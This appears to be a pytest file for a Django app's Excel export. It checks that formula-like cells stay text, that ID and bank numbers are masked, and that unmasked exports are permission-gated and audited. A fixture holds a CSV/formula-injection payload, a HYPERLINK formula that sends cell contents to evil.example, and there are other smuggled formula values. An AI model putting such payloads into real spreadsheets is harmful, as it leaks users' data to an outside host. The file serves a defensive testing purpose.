"""Excel exports write text as text (a cell starting with = is never a formula), amounts as
numbers, and show ID numbers and bank accounts masked unless an unmasked export was asked
for by a role allowed to see them, with a reason; that export is on the audit trail."""

from decimal import Decimal
from io import BytesIO

import pytest
from django.test import RequestFactory
from openpyxl import load_workbook

from doudi.core import exports, idnumber
from doudi.core.models import AuditEntry

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def cells(path_or_bytes, row: int):
    source = BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    return next(load_workbook(source).active.iter_rows(min_row=row, max_row=row))


def test_text_is_text_and_amounts_are_numbers(tmp_path):
    target = tmp_path / "x.xlsx"
    written = exports.write_xlsx(
        target,
        "标题",
        ["地址", "加", "艾特", "减", "金额", "人数", "空"],
        [
            [LINK, "+86 123", "@SUM(A1:A9)", "-1+2", Decimal("12.30"), 5, None],
            ["普通", "\t=1+1", "文本", "", Decimal("7.7"), 0, ""],
        ],
    )
    assert written == 2
    first = cells(target, 3)
    for cell, text in zip(first[:4], [LINK, "+86 123", "@SUM(A1:A9)", "-1+2"]):
        assert cell.data_type == "s" and cell.value == text, cell
    amount, people = first[4], first[5]
    assert amount.data_type == "n" and amount.value == 12.3 and amount.number_format == "0.00"
    assert people.data_type == "n" and people.value == 5
    assert first[6].value is None
    second = cells(target, 4)
    assert second[1].data_type == "s" and second[1].value == "\t=1+1"
    assert sum(c[4].value for c in (first, second)) == pytest.approx(20.0)


def test_formula_like_accounts_refused_with_a_chinese_reason():
    assert exports.account_problem("6228480012345678901") is None
    assert exports.account_problem("") is None
    for bad in ("=6228480012345678901", "@6228", "+6228", "-6228"):
        assert "开头" in exports.account_problem(bad)
    assert "控制字符" in exports.account_problem("62284800\x0712345678")


def test_mask_helpers():
    number = "140521196001010011"
    assert idnumber.mask_account("6228480012345678901") == "***************8901"
    assert idnumber.mask_account("") == ""
    text = f"干部 {number}，账号 6228480012345678901，电话 13800000000，区划 140521100201"
    masked = idnumber.mask_text(text)
    assert number not in masked and "6228480012345678901" not in masked
    assert "140521********0011" in masked and "13800000000" in masked and "140521100201" in masked
    detail = {"items": [{"cadre_id_number": number, "cadre_name": "冯二", "relation": "self"}], "members": 3}
    shown = idnumber.mask_values(detail)
    assert shown == {"items": [{"cadre_id_number": "140521********0011", "cadre_name": "冯二", "relation": "self"}], "members": 3}
    assert detail["items"][0]["cadre_id_number"] == number  # the stored evidence is not changed


@pytest.mark.django_db
def test_unmasked_export_needs_the_permission_and_a_reason_and_is_logged(users):
    factory = RequestFactory()
    number, account = "140521196001010011", "6228480012345678901"

    def export(user, **params):
        request = factory.get("/x/", {"export": "xlsx", **params})
        request.user = user
        return exports.export_response(
            request, "名单.xlsx", "名单", ["身份证号", "银行账号"], lambda mask: [[mask.id(number), mask.account(account)]] * 3
        )

    def row(response):
        return [c.value for c in cells(b"".join(response.streaming_content), 3)]

    for name in ("supervisor", "finance", "clerk_a", "admin"):
        assert row(export(users[name])) == ["140521********0011", "***************8901"], name
    assert AuditEntry.objects.count() == 0
    refused = export(users["supervisor"], unmasked="1", reason="核查")
    assert refused.status_code == 403 and "无权" in refused.content.decode()
    no_reason = export(users["admin"], unmasked="1")
    assert no_reason.status_code == 400 and "原因" in no_reason.content.decode()
    assert AuditEntry.objects.count() == 0
    assert row(export(users["admin"], unmasked="1", reason="纪检调阅")) == [number, account]
    # Finance may see bank accounts, not ID numbers.
    assert row(export(users["finance"], unmasked="1", reason="银行退票核对")) == ["140521********0011", account]
    logged = list(AuditEntry.objects.order_by("id"))
    assert [(e.user.username, e.entity, e.reason, e.changes["rows"], e.changes["unmasked"]) for e in logged] == [
        ("admin", "export", "纪检调阅", 3, ["id_number", "bank_account"]),
        ("finance", "export", "银行退票核对", 3, ["bank_account"]),
    ]
    assert logged[0].changes["title"] == "名单" and logged[0].entity_key == "名单.xlsx" and logged[0].at


@pytest.mark.django_db
def test_household_export_keeps_a_formula_address_as_text(client, users, tmp_path):
    from conftest import COUNTY, household_row, member_row, person_id, write_registry
    from doudi.registry.services import registry_import

    head = person_id(COUNTY, "19600101", 11)
    registry_import(
        paths=[write_registry(tmp_path / "reg", [household_row("H001", 详细地址=LINK)], [member_row("H001", "张三", head)], [])]
    )
    client.force_login(users["supervisor"])
    response = client.get("/households/", {"export": "xlsx"})
    row = cells(b"".join(response.streaming_content), 3)
    address = row[-1]
    assert address.value == LINK and address.data_type == "s"
    assert head not in [c.value for c in row] and row[5].value == idnumber.mask(head)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "params, status, message",
    [
        ({"reason_kind": "other"}, 400, "须写明"),
        ({"reason_kind": "unrecorded"}, 400, "不在可选范围"),
        ({"reason_kind": "gossip", "reason": "看看"}, 400, "不在可选范围"),
        ({"reason": "   "}, 400, "请选择"),
        ({"reason_kind": "bank", "reason": "退票"}, 200, ""),
        ({"reason": "银行代发核对"}, 200, ""),  # a listed reason named in words
    ],
)
def test_unmasked_export_reason_is_a_listed_one_or_explained(users, params, status, message):
    """The reason list of the person page (core/unmasking.py) applies to exports too."""
    request = RequestFactory().get("/x/", {"export": "xlsx", "unmasked": "1", **params})
    request.user = users["finance"]
    response = exports.export_response(
        request, "名单.xlsx", "名单", ["银行账号"], lambda mask: [[mask.account("6228480012345678901")]]
    )
    assert response.status_code == status
    if status != 200:
        assert message in response.content.decode() and not AuditEntry.objects.exists()
        return
    entry = AuditEntry.objects.get(entity="export")
    assert entry.changes["reason_kind"] == "bank" and entry.reason.startswith("银行代发核对")
